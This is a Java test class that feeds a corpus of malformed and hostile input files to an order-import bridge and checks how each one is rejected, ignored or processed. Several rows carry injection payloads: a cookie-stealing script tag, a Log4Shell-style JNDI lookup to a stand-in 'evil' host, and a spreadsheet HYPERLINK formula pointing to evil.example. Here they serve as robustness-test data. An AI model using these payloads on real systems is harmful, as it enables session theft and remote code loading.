package com.impilo.bridge.routes;

import static com.impilo.bridge.support.Orders.patientOrder;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URISyntaxException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.nio.file.attribute.FileTime;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.function.Consumer;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import java.util.stream.StreamSupport;

import com.fasterxml.jackson.databind.JsonNode;
import com.impilo.bridge.support.BridgeHarness;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Every file of the hostile corpus ({@code src/test/resources/hostile}, each named for what it tries) dropped into one
 * running bridge ends exactly as its row below says: orders created or rejected with their reasons, the whole file
 * rejected with its reason, or left alone in the inbox; and the bridge goes on creating orders afterwards.
 * A {@code <name>.recipe} file is expanded by the test into {@code <name>}: {@code <<N*text>>} stands for N copies of
 * text, so that megabyte inputs need not be committed.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class HostileInputTest {

    private static final String UNREADABLE = "the file cannot be read as orders: ";
    private static final String EXPECTED_TYPES =
            " (expected .json, .ndjson or .jsonl for JSON orders, .csv for flat files, .x12, .edi or .850 for X12 850"
                    + " purchase orders)";
    private static final String COUNT_ZERO = "orderItems[0].count: must be at least 1, got 0";
    private static final Pattern REPEAT = Pattern.compile("<<(\\d+)\\*(.*?)>>", Pattern.DOTALL);

    @TempDir
    static Path data;

    private BridgeHarness bridge;

    @BeforeAll
    void start() throws Exception {
        // one order at a time: the rows below are about what each input becomes, and the twice-sent order's rows
        // say which copy is created; side by side, either copy may win (ExactlyOnceTest covers that)
        bridge = BridgeHarness.start(data, Map.of("bridge.http.max-concurrency", "1"));
    }

    @AfterAll
    void stop() {
        bridge.close();
    }

    static Stream<Case> corpus() {
        return Stream.of(
                // not an order file at all: rejected whole, nothing sent
                rejectedWhole("zero-bytes.json", "the file is empty"),
                rejectedWhole("zero-bytes.ndjson", "the file is empty"),
                rejectedWhole("only-whitespace.json", "the file holds no JSON value"),
                rejectedWhole("only-blank-lines.ndjson", "the file holds only blank lines"),
                rejectedWhole("json-null.json",
                        "expected an order object or an array of orders, found null (line 1, column 1)"),
                rejectedWhole("top-level-string.json",
                        "expected an order object or an array of orders, found please create my order"
                                + " (line 1, column 1)"),
                rejectedWhole("top-level-number.json",
                        "expected an order object or an array of orders, found 42 (line 1, column 1)"),
                rejectedWhole("no-extension", "unsupported file type: no-extension" + EXPECTED_TYPES),
                rejectedWhole("double-extension.json.txt",
                        "unsupported file type: double-extension.json.txt" + EXPECTED_TYPES),
                // JSON with the liberties of JavaScript: rejected whole, with the place of the first problem
                rejectedWhole("trailing-comma.json", "not valid JSON: Unexpected character ('}' (code 125)):"
                        + " was expecting double-quote to start field name (line 2, column 51)"),
                rejectedWhole("comments-in-json.json", "not valid JSON: Unexpected character ('/' (code 47)):"
                        + " maybe a (non-standard) comment?"),
                rejectedWhole("single-quotes.json", "not valid JSON: Unexpected character (''' (code 39)):"
                        + " was expecting double-quote to start field name (line 1, column 2)"),
                rejectedWhole("unquoted-keys.json", "not valid JSON: Unexpected character ('e' (code 101)):"
                        + " was expecting double-quote to start field name (line 1, column 2)"),
                rejectedWhole("nan-and-infinity.json", "not valid JSON: Non-standard token 'NaN'"),
                rejectedWhole("truncated-after-first-order.json", "not valid JSON: Unexpected end-of-input"),
                rejectedWhole("two-json-documents.json",
                        "unexpected content after the end of the JSON value (line 2, column 1)"),
                rejectedWhole("duplicate-keys.json", "not valid JSON: Duplicate field 'patient' (line 1, column"),
                // bytes that are not JSON text
                rejectedWhole("nul-byte.json", "not valid JSON: Illegal character ((CTRL-CHAR, code 0))"),
                rejectedWhole("unescaped-control-character-in-note.json",
                        "not valid JSON: Illegal unquoted character ((CTRL-CHAR, code 7))"),
                rejectedWhole("invalid-utf8.json", "the file is not UTF-8 text: line 3 holds a byte that is not UTF-8"),
                rejectedWhole("invalid-utf8.ndjson",
                        "the file is not UTF-8 text: line 2 holds a byte that is not UTF-8"),
                rejectedWhole("utf16-le-with-bom.json", "the file is UTF-16LE text; orders are read as UTF-8 only"),
                rejectedWhole("utf16-be.json", "the file is UTF-16BE text; orders are read as UTF-8 only"),
                rejectedWhole("utf16-le-with-bom.ndjson", "the file is UTF-16LE text; orders are read as UTF-8 only"),
                rejectedWhole("utf32-le.json", "the file is UTF-32LE text; orders are read as UTF-8 only"),
                rejectedWhole("binary-png-renamed.json",
                        "the file is not UTF-8 text: line 1 holds a byte that is not UTF-8"),
                rejectedWhole("gzip-renamed.ndjson",
                        "the file is not UTF-8 text: line 1 holds a byte that is not UTF-8"),
                // beyond the read limits: a .json file is checked whole before anything is sent
                rejectedWhole("number-with-500-digits.json", "beyond the read limits: Number value length (500)"
                        + " exceeds the maximum allowed (40) (line 1, column"),
                rejectedWhole("deeply-nested-65-levels.json", "beyond the read limits: Document nesting depth (65)"
                        + " exceeds the maximum allowed (64) (line 1, column"),
                rejectedWhole("string-of-2MB.json", "beyond the read limits: String value length (1045472)"
                        + " exceeds the maximum allowed (1000000) (line 1, column"),
                rejectedWhole("field-name-of-2000-chars.json",
                        "beyond the read limits: Name length (1024) exceeds the maximum allowed (1000)"
                                + " (line 1, column"),
                rejectedWhole("order-over-size-limit-in-array.json",
                        "beyond the read limits: the order at index 1 is longer than 2000000 bytes"),

                // CSV: read in the charset of its layout (UTF-8 here) and checked whole, with the same read limits
                rejectedWhole("csv-utf16-le-with-bom.csv", "the file is UTF-16LE text, not UTF-8 (the charset of its"
                        + " CSV layout): save it as UTF-8 or change the layout's charset"),
                rejectedWhole("csv-utf16-be.csv", "the file is UTF-16BE text, not UTF-8 (the charset of its CSV"
                        + " layout): save it as UTF-8 or change the layout's charset"),
                rejectedWhole("csv-invalid-utf8.csv", "the file is not UTF-8 text (the charset of its CSV layout):"
                        + " line 3 holds a byte that is not UTF-8"),
                rejectedWhole("csv-quote-never-closed.csv",
                        "not valid CSV in the row starting at line 3: Missing closing quote for value"),
                // the length Jackson gives is where it stopped reading, which depends on its buffers
                rejectedWhole("csv-value-of-3MB.csv", "beyond the read limits: String value length ("),
                rejectedWhole("csv-row-of-3-million-delimiters.csv", "beyond the read limits: Row length exceeds the"
                        + " maximum allowed (2000000 characters), in the row starting at line 2"),
                rejectedWhole("csv-order-of-30000-rows.csv",
                        "beyond the read limits: the order at line 3 is longer than 2000000 characters"),

                // ignored: never read, left in the inbox as they are
                ignored(".hidden.json"),
                ignored("upload.json.part"),
                ignored("upload.json.tmp"),
                ignored("SHOUTING-UPLOAD.JSON.PART"),
                ignored("looks-like-a-receipt.receipt.json"),
                ignored("looks-like-an-error.error.json"),

                // read as orders: each order created or rejected on its own
                receipt("bom-then-json.json", "index 0 created"),
                receipt("bom-then-ndjson.ndjson", "line 1 created", "line 2 created"),
                receipt("crlf-ndjson.ndjson", "line 1 created", "line 2 created", "line 4 created"),
                receipt("uppercase-extension.JSON", "index 0 created"),
                receipt("file name with spaces.json", "index 0 created", "index 1 rejected: " + COUNT_ZERO)
                        .deadLetters("rejected/file name with spaces.index1.json"),
                receipt("ünïcödé-名前.json", "index 0 created", "index 1 rejected: " + COUNT_ZERO)
                        .deadLetters("rejected/ünïcödé-名前.index1.json"),
                receipt("dot-dot..json", "index 0 created", "index 1 rejected: " + COUNT_ZERO)
                        .deadLetters("rejected/dot-dot..index1.json"),
                receipt("camel-simple-${date:now:yyyy}-${file:name}.json", "index 0 created",
                        "index 1 rejected: " + COUNT_ZERO)
                        .deadLetters("rejected/camel-simple-${date:now:yyyy}-${file:name}.index1.json"),
                receipt("huge-count.json",
                        "index 0 rejected: orderItems[0].count: expected a whole number between -2147483648 and"
                                + " 2147483647, got 99999999999"),
                receipt("count-as-float.json",
                        "index 0 rejected: orderItems[0].count: expected a whole number, got 1.5"),
                receipt("count-in-exponent-notation.json",
                        "index 0 rejected: orderItems[0].count: expected a whole number, got 100.0"),
                receipt("count-as-numeric-string.json", "index 0 created")
                        .sent(order -> assertThat(order.at("/orderItems/0/count").asInt()).isEqualTo(3)),
                receipt("count-as-boolean.json", "index 0 rejected: orderItems[0].count: expected a whole number"),
                receipt("count-over-inventory.json", "index 0 rejected: the Impilo API refused the order (HTTP 400)"),
                receipt("id-as-string-number.json", "index 0 created")
                        .sent(order -> assertThat(order.at("/patient/id").isIntegralNumber()).isTrue()),
                receipt("id-as-float.json", "index 0 rejected: patient.id: expected a whole number, got 12.5"),
                receipt("id-beyond-long.json", "index 0 rejected: patient.id: expected a whole number between"
                        + " -9223372036854775808 and 9223372036854775807, got 99999999999999999999"),
                receipt("negative-patient-id.json", "index 0 rejected: patient.id: must be a positive number, got -5"),
                receipt("number-with-500-digits-on-one-line.ndjson", "line 1 created",
                        "line 2 rejected: $: beyond the read limits: Number value length (500) exceeds the maximum"
                                + " allowed (40)",
                        "line 3 created"),
                receipt("deeply-nested-64-levels.json", "index 0 created"),
                receipt("deeply-nested-65-levels-on-one-line.ndjson", "line 1 created",
                        "line 2 rejected: $: beyond the read limits: Document nesting depth (65) exceeds the maximum"
                                + " allowed (64)",
                        "line 3 created"),
                receipt("very-long-line.ndjson", "line 1 created",
                        "line 2 rejected: $: beyond the read limits: the line is longer than 2000000 bytes; its dead"
                                + " letter keeps only its first 1000 characters, the original file all of it",
                        "line 3 created")
                        .deadLetters("rejected/very-long-line.line2.json"),
                receipt("empty-array.json"),
                receipt("empty-object.json", "index 0 rejected: patient: required (an order needs exactly one of"
                        + " patient or site); orderItems: required"),
                receipt("array-of-nulls.json", "index 0 rejected: $: expected an order (a JSON object), found null",
                        "index 1 rejected: $: expected an order (a JSON object), found null"),
                receipt("ndjson-with-array-line.ndjson", "line 1 created",
                        "line 2 rejected: $: expected an order (a JSON object), found array", "line 3 created"),
                receipt("two-orders-on-one-line.ndjson",
                        "line 1 rejected: $: unexpected content after the end of the order (column 145)",
                        "line 2 created"),
                receipt("garbage-after-order-on-a-line.ndjson",
                        "line 1 rejected: $: not valid JSON: Unrecognized token 'trailing'", "line 2 created"),
                receipt("nul-byte-on-one-line.ndjson", "line 1 created",
                        "line 2 rejected: $: not valid JSON: Illegal character ((CTRL-CHAR, code 0))",
                        "line 3 created"),
                receipt("both-patient-and-site.json", "index 0 rejected: site: not allowed together with patient"
                        + " (an order needs exactly one of patient or site)"),
                receipt("patient-as-string.json", "index 0 rejected: patient: expected an object"),
                receipt("order-items-as-object.json", "index 0 rejected: orderItems: expected a list"),
                receipt("external-ids-as-string.json", "index 0 rejected: externalOrderIds: expected a list"),
                receipt("duplicate-external-ids.json",
                        "index 0 rejected: externalOrderIds[1]: duplicate of externalOrderIds[0]"),
                receipt("same-order-twice-in-one-file.ndjson", "line 1 created",
                        "line 2 duplicate: duplicate of Impilo order "),
                receipt("100-items.json", "index 0 created")
                        .sent(order -> assertThat(order.get("orderItems")).hasSize(100)),
                receipt("external-id-10k-chars.json", "index 0 created"),
                receipt("control-characters-in-note.json", "index 0 created")
                        .sent(order -> assertThat(order.at("/orderNotes/0/note").asText())
                                .isEqualTo("bell\u0007 escape\u001b[31m nul\u0000 del\u007f end")),
                receipt("script-injection-in-note.json", "index 0 created")
                        .sent(order -> assertThat(order.at("/orderNotes/0/note").asText()).isEqualTo(
                                "<script>alert(document.cookie)</script><img src=x onerror=alert(1)> {{7*7}}"
                                        + " ${jndi:ldap://evil/x}")),
                receipt("sql-injection-in-external-id.json", "index 0 created"),
                receipt("csv-formula-injection.csv", "line 2 created")
                        .sent(order -> assertThat(order.at("/orderNotes/0/note").asText())
                                .isEqualTo("=HYPERLINK(\"http://evil.example/x\",\"click\")")),
                receipt("emoji-in-external-id.json", "index 0 created"),
                receipt("lone-surrogate-in-external-id.json", "index 0 rejected: externalOrderIds[0]: holds a broken"
                        + " character (an unpaired UTF-16 surrogate \\udc00)"),
                receipt("lone-surrogate-in-note.json", "index 0 rejected: orderNotes[0].note: holds a broken"
                        + " character (an unpaired UTF-16 surrogate \\ud800)"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("corpus")
    @Order(1)
    void ends_each_hostile_file_as_its_row_says(Case expected) throws IOException {
        byte[] content = corpusFile(expected.file());
        int sentBefore = bridge.sandbox().createRequests();

        Path dropped = drop(expected.file(), content);

        switch (expected.kind()) {
            case REJECTED_WHOLE -> assertRejectedWhole(expected, content, sentBefore);
            case IGNORED -> assertIgnored(dropped, content, sentBefore);
            case RECEIPT -> assertReceipt(expected, content, sentBefore);
        }
    }

    @Test
    @Order(2)
    void has_an_expected_outcome_for_every_corpus_file() throws IOException {
        List<String> rows = corpus().map(Case::file).toList();
        try (Stream<Path> files = Files.list(corpusDir())) {
            List<String> names = files.map(file -> file.getFileName().toString())
                    .map(name -> name.replaceFirst("\\.recipe$", ""))
                    .toList();
            assertThat(rows).containsExactlyInAnyOrderElementsOf(names).doesNotHaveDuplicates().hasSizeGreaterThan(40);
        }
    }

    @Test
    @Order(3)
    void rejects_a_symlink_to_a_file_outside_the_inbox_without_reading_it() throws IOException {
        Path outside = Files.createDirectories(data.resolve("elsewhere")).resolve("secret-order.json");
        Files.writeString(outside, patientOrder("H-behind-symlink"));
        FileTime modified = Files.getLastModifiedTime(outside);
        int sentBefore = bridge.sandbox().createRequests();

        Files.createSymbolicLink(bridge.folders().inbox().resolve("link-to-outside.json"), outside);

        JsonNode error = bridge.awaitWholeFileIn(bridge.folders().rejected(), "link-to-outside.json");
        assertThat(error.get("reason").asText()).isEqualTo(UNREADABLE
                + "the file is a symbolic link; links are not followed: put the file itself in the folder");
        assertThat(bridge.folders().rejected().resolve("link-to-outside.json")).isSymbolicLink();
        assertThat(outside).hasContent(patientOrder("H-behind-symlink"));
        assertThat(Files.getLastModifiedTime(outside)).isEqualTo(modified);
        assertThat(bridge.sandbox().createRequests()).isEqualTo(sentBefore);
        assertThat(bridge.sandbox().orders()).noneMatch(order -> order.toString().contains("H-behind-symlink"));
    }

    @Test
    @Order(3)
    void leaves_a_dangling_symlink_in_the_inbox() throws IOException {
        Path link = Files.createSymbolicLink(bridge.folders().inbox().resolve("dangling-link.json"),
                data.resolve("nowhere.json"));

        // there is nothing to read: the file consumer passes it by, as it passes by any name that is not a file
        await().during(Duration.ofMillis(500)).atMost(Duration.ofSeconds(3)).until(() -> Files.isSymbolicLink(link));
        assertThat(bridge.folders().rejected().resolve("dangling-link.json")).doesNotExist();
        assertThat(bridge.folders().undelivered().resolve("dangling-link.json")).doesNotExist();
    }

    @Test
    @Order(3)
    void rejects_a_named_pipe_without_opening_it() throws Exception {
        Path pipe = bridge.folders().inbox().resolve("named-pipe.json");
        Process mkfifo = new ProcessBuilder("mkfifo", pipe.toString()).start();
        assertThat(mkfifo.waitFor()).isZero();

        // opening a pipe nobody writes to would block the pickup thread for good
        JsonNode error = bridge.awaitWholeFileIn(bridge.folders().rejected(), "named-pipe.json");
        assertThat(error.get("reason").asText()).isEqualTo(UNREADABLE + "not a regular file");
    }

    @Test
    @Order(3)
    void leaves_a_folder_named_like_an_order_file_alone() throws IOException {
        Path folder = Files.createDirectories(bridge.folders().inbox().resolve("folder.json"));
        Files.writeString(folder.resolve("inside.json"), patientOrder("H-in-folder"));
        int sentBefore = bridge.sandbox().createRequests();

        await().during(Duration.ofMillis(500)).atMost(Duration.ofSeconds(3))
                .until(() -> Files.isRegularFile(folder.resolve("inside.json")));
        assertThat(bridge.folders().rejected().resolve("folder.json")).doesNotExist();
        assertThat(bridge.sandbox().createRequests()).isEqualTo(sentBefore);
    }

    @Test
    @Order(3)
    void keeps_the_receipt_and_dead_letters_of_a_240_byte_file_name_within_the_name_limit() throws IOException {
        // 255 bytes is the limit of a file name; the receipt and the dead letters would add to this one
        String name = "n".repeat(235) + ".json";
        byte[] content = ("[" + patientOrder("H-long-name-0") + ", {\"externalOrderIds\": [\"H-long-name-1\"],"
                + " \"patient\": {\"id\": 1}, \"orderItems\": [{\"item\": {\"id\": 1}, \"count\": 0}]}]")
                .getBytes(StandardCharsets.UTF_8);

        drop(name, content);

        await().atMost(Duration.ofSeconds(20)).until(() -> !Files.exists(bridge.folders().inbox().resolve(name))
                && receiptFor("H-long-name-0").isPresent());
        Path receiptFile = receiptFor("H-long-name-0").orElseThrow();
        JsonNode receipt = BridgeHarness.readJson(receiptFile);
        assertThat(receipt.get("file").asText()).isEqualTo(name);
        assertThat(summary(receipt)).containsExactly("index 0 created", "index 1 rejected: " + COUNT_ZERO);
        String archived = receiptFile.getFileName().toString().replace(".receipt.json", "");
        assertThat(archived).startsWith("nnnnnnnnnn").contains("~").endsWith("nnnnnnnnnn.json");
        assertThat(bridge.folders().done().resolve(archived)).hasBinaryContent(content);
        Path deadLetter = data.resolve(receipt.at("/orders/1/deadLetter").asText());
        assertThat(deadLetter.getParent()).isEqualTo(bridge.folders().rejected());
        assertThat(deadLetter.getFileName().toString()).endsWith("nnnnnnnnnn.index1.json");
        assertThat(BridgeHarness.readJson(deadLetter).at("/externalOrderIds/0").asText()).isEqualTo("H-long-name-1");
        assertThat(deadLetter.resolveSibling(deadLetter.getFileName() + ".error.json")).exists();
    }

    @Test
    @Order(3)
    void leaves_a_file_whose_name_is_too_long_to_lock_in_the_inbox() throws IOException {
        // the file consumer's read lock needs "<name>.camelLock" beside the file: 10 bytes more than this name can have
        String name = "m".repeat(241) + ".json";
        byte[] content = patientOrder("H-too-long-name").getBytes(StandardCharsets.UTF_8);
        int sentBefore = bridge.sandbox().createRequests();

        Path dropped = drop(name, content);

        assertIgnored(dropped, content, sentBefore);
        Files.delete(dropped);
    }

    @Test
    @Order(4)
    void still_creates_orders_after_the_whole_corpus() {
        await().atMost(Duration.ofSeconds(5)).until(() -> bridge.runtime().camelContext().getRouteController()
                .getRouteStatus("pickup-inbox").isStarted());

        bridge.drop("after-the-corpus.json", patientOrder("H-after-the-corpus"));

        JsonNode receipt = bridge.awaitReceipt("after-the-corpus.json");
        assertThat(receipt.at("/orders/0/outcome").asText()).isEqualTo("created");
        assertThat(bridge.sandbox().order(receipt.at("/orders/0/impiloOrderId").asLong())).isPresent();
        try (Stream<Path> left = listInbox()) {
            assertThat(left.map(file -> file.getFileName().toString()))
                    .as("only the ignored files, the folder and the dangling link are left in the inbox")
                    .containsExactlyInAnyOrder(".hidden.json", "upload.json.part", "upload.json.tmp",
                            "SHOUTING-UPLOAD.JSON.PART", "looks-like-a-receipt.receipt.json",
                            "looks-like-an-error.error.json", "folder.json", "dangling-link.json");
        }
    }

    private void assertRejectedWhole(Case expected, byte[] content, int sentBefore) {
        JsonNode error = bridge.awaitWholeFileIn(bridge.folders().rejected(), expected.file());

        assertThat(error.get("reason").asText()).startsWith(UNREADABLE + expected.lines().get(0));
        assertThat(error.get("category").asText()).isEqualTo("unreadable-file");
        assertThat(error.get("sourceFile").asText()).isEqualTo(expected.file());
        assertThat(bridge.folders().rejected().resolve(expected.file())).as("the file as it was dropped")
                .hasBinaryContent(content);
        assertThat(bridge.folders().done().resolve(expected.file() + ".receipt.json")).doesNotExist();
        assertThat(bridge.sandbox().createRequests()).as("nothing of the file is sent").isEqualTo(sentBefore);
    }

    private void assertIgnored(Path dropped, byte[] content, int sentBefore) throws IOException {
        await().during(Duration.ofMillis(500)).atMost(Duration.ofSeconds(3))
                .until(() -> Files.exists(dropped) && Arrays.equals(Files.readAllBytes(dropped), content));
        String name = dropped.getFileName().toString();
        for (Path folder : List.of(bridge.folders().done(), bridge.folders().rejected(),
                bridge.folders().undelivered())) {
            try (Stream<Path> files = Files.list(folder)) {
                assertThat(files.map(file -> file.getFileName().toString())).noneMatch(file -> file.startsWith(name));
            }
        }
        assertThat(bridge.sandbox().createRequests()).isEqualTo(sentBefore);
    }

    private void assertReceipt(Case expected, byte[] content, int sentBefore) {
        JsonNode receipt = bridge.awaitReceipt(expected.file());

        List<String> lines = summary(receipt);
        assertThat(lines).hasSameSizeAs(expected.lines());
        for (int i = 0; i < lines.size(); i++) {
            assertThat(lines.get(i)).startsWith(expected.lines().get(i));
        }
        assertThat(receipt.get("file").asText()).isEqualTo(expected.file());
        assertThat(bridge.folders().done().resolve(expected.file())).as("the file as it was dropped")
                .hasBinaryContent(content);

        int sent = 0;
        List<JsonNode> created = new ArrayList<>();
        for (JsonNode order : receipt.get("orders")) {
            switch (order.get("outcome").asText()) {
                case "created" -> {
                    JsonNode atImpilo = bridge.sandbox().order(order.get("impiloOrderId").asLong()).orElseThrow();
                    // the partner's ids, then the bridge's stamp: the order's key
                    List<String> ids = new ArrayList<>();
                    atImpilo.get("externalOrderIds").forEach(id -> ids.add(id.asText()));
                    List<String> partnerIds = new ArrayList<>();
                    order.get("externalOrderIds").forEach(id -> partnerIds.add(id.asText()));
                    partnerIds.add(order.get("idempotencyKey").asText());
                    assertThat(ids).isEqualTo(partnerIds);
                    assertThat(bridge.ledger().find(order.get("idempotencyKey").asText())).isPresent();
                    created.add(atImpilo);
                    sent++;
                }
                case "rejected" -> {
                    assertDeadLetter(order);
                    sent += order.has("httpStatus") ? 1 : 0;
                }
                case "duplicate" -> assertThat(order.get("impiloOrderId").asLong()).isPositive();
                default -> throw new AssertionError("unexpected outcome " + order);
            }
        }
        assertThat(bridge.sandbox().createRequests() - sentBefore).as("orders sent to the API").isEqualTo(sent);
        created.forEach(expected.sent());
        if (!expected.deadLetters().isEmpty()) {
            assertThat(receipt.get("orders")).filteredOn(order -> order.has("deadLetter"))
                    .extracting(order -> order.get("deadLetter").asText())
                    .containsExactlyElementsOf(expected.deadLetters());
        }
    }

    // The dead letter lies inside rejected/, beside its error file, which gives the receipt's reason.
    private void assertDeadLetter(JsonNode order) {
        Path rejected = bridge.folders().rejected();
        Path deadLetter = data.resolve(order.get("deadLetter").asText()).normalize();
        assertThat(deadLetter.getParent()).isEqualTo(rejected);
        assertThat(deadLetter).isRegularFile();
        JsonNode error = BridgeHarness.readJson(deadLetter.resolveSibling(deadLetter.getFileName() + ".error.json"));
        assertThat(error.get("reason").asText()).isEqualTo(order.get("reason").asText());
        assertThat(error.get("position").asText()).isEqualTo(order.get("position").asText());
    }

    /** Each order of a receipt as {@code "<position> <outcome>[: <violations, or the reason>]"}. */
    private static List<String> summary(JsonNode receipt) {
        return StreamSupport.stream(receipt.get("orders").spliterator(), false).map(order -> {
            String line = order.get("position").asText() + " " + order.get("outcome").asText();
            if (order.has("violations")) {
                return line + ": " + String.join("; ", StreamSupport
                        .stream(order.get("violations").spliterator(), false).map(JsonNode::asText).toList());
            }
            return order.has("reason") ? line + ": " + order.get("reason").asText() : line;
        }).toList();
    }

    private Optional<Path> receiptFor(String externalOrderId) throws IOException {
        try (Stream<Path> files = Files.list(bridge.folders().done())) {
            return files.filter(file -> file.getFileName().toString().endsWith(".receipt.json"))
                    .filter(file -> BridgeHarness.readJson(file).toString().contains(externalOrderId))
                    .findFirst();
        }
    }

    private Stream<Path> listInbox() {
        try {
            return Files.list(bridge.folders().inbox())
                    .filter(file -> !file.getFileName().toString().endsWith(".camelLock"));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Drops bytes into the inbox as a careful partner does: written under a temporary name, then renamed. */
    private Path drop(String name, byte[] content) {
        try {
            Path temp = bridge.folders().inbox().resolve(name.length() > 240 ? ".long.part" : name + ".part");
            Files.write(temp, content);
            return Files.move(temp, bridge.folders().inbox().resolve(name), StandardCopyOption.ATOMIC_MOVE);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] corpusFile(String name) {
        try {
            Path file = corpusDir().resolve(name);
            if (Files.exists(file, LinkOption.NOFOLLOW_LINKS)) {
                return Files.readAllBytes(file);
            }
            return expand(Files.readString(corpusDir().resolve(name + ".recipe"))).getBytes(StandardCharsets.UTF_8);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static String expand(String recipe) {
        Matcher repeat = REPEAT.matcher(recipe);
        StringBuilder text = new StringBuilder();
        while (repeat.find()) {
            String copies = repeat.group(2).repeat(Integer.parseInt(repeat.group(1)));
            repeat.appendReplacement(text, Matcher.quoteReplacement(copies));
        }
        return repeat.appendTail(text).toString();
    }

    private static Path corpusDir() {
        try {
            return Path.of(HostileInputTest.class.getResource("/hostile").toURI());
        } catch (URISyntaxException e) {
            throw new IllegalStateException(e);
        }
    }

    private static Case rejectedWhole(String file, String reason) {
        return new Case(file, Kind.REJECTED_WHOLE, List.of(reason), List.of(), order -> { });
    }

    private static Case ignored(String file) {
        return new Case(file, Kind.IGNORED, List.of(), List.of(), order -> { });
    }

    private static Case receipt(String file, String... lines) {
        return new Case(file, Kind.RECEIPT, List.of(lines), List.of(), order -> { });
    }

    private enum Kind { REJECTED_WHOLE, IGNORED, RECEIPT }

    /**
     * One row: the corpus file, and how it must end. For {@code RECEIPT}, one line per order in the form of
     * {@link #summary}, each matching as a prefix; for {@code REJECTED_WHOLE}, the start of the reason.
     */
    record Case(String file, Kind kind, List<String> lines, List<String> deadLetters, Consumer<JsonNode> sent) {

        /** Also checks the receipt's dead-letter paths, in order. */
        Case deadLetters(String... paths) {
            return new Case(file, kind, lines, List.of(paths), sent);
        }

        /** Also checks each order as the API received it. */
        Case sent(Consumer<JsonNode> check) {
            return new Case(file, kind, lines, deadLetters, check);
        }

        @Override
        public String toString() {
            return file;
        }
    }
}
